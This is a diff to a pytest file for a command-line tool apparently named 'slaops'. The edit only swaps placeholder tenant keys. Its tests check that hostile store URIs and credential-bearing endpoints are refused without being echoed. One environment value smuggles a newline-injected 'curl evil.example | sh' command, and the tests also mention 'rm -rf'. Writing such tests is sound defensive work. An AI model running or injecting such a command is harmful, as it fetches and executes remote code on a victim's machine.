@@ -458,7 +458,7 @@ def start_up_env(monkeypatch: pytest.MonkeyPatch, tmp_path: pathlib.Path) -> Non
 def test_hostile_store_uris_are_refused_at_start_up(
     command: str, uri: str, reason: str, capsys: pytest.CaptureFixture[str], tmp_path: pathlib.Path
 ) -> None:
-    assert main([command, "--store", uri, "--tenant-key", "k" * 32]) == 2
+    assert main([command, "--store", uri, "--tenant-key", "k7Q2x9Lm" * 4]) == 2
     err = capsys.readouterr().err
     assert err.startswith(f"slaops {command}: store (SLAOPS_STORE or --store): "), err
     assert reason in err and "rm -rf" not in err and err.count("\n") == 1
@@ -471,7 +471,7 @@ def test_a_hostile_store_uri_from_the_environment_is_refused(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setenv("SLAOPS_STORE", "file:///srv/models\n; curl evil.example | sh")
-    monkeypatch.setenv("SLAOPS_TENANT_KEY", "k" * 32)
+    monkeypatch.setenv("SLAOPS_TENANT_KEY", "k7Q2x9Lm" * 4)
     assert main(["consume"]) == 2
     err = capsys.readouterr().err
     assert "store (SLAOPS_STORE or --store): " in err and "curl" not in err
@@ -523,7 +523,7 @@ def test_a_token_in_the_store_uri_is_refused_without_echoing_it(
     command: str, uri: str, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
 ) -> None:
     with caplog.at_level(logging.DEBUG):
-        assert main([command, "--store", uri, "--tenant-key", "k" * 32]) == 2
+        assert main([command, "--store", uri, "--tenant-key", "k7Q2x9Lm" * 4]) == 2
     out, err = capsys.readouterr()
     assert "store (SLAOPS_STORE or --store): " in err and "must not embed credentials" in err
     assert TOKEN not in out + err + caplog.text
@@ -631,7 +631,7 @@ def test_hub_endpoint_with_credentials_is_refused_without_echoing_them(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setenv("HF_ENDPOINT", f"https://user:{TOKEN}@hub.example")
-    assert main(["retrain", "--store", "hf://owner/repo", "--tenant-key", "k" * 32]) == 2
+    assert main(["retrain", "--store", "hf://owner/repo", "--tenant-key", "k7Q2x9Lm" * 4]) == 2
     err = capsys.readouterr().err
     assert "hub endpoint must be an http(s) URL without credentials" in err
     assert TOKEN not in err
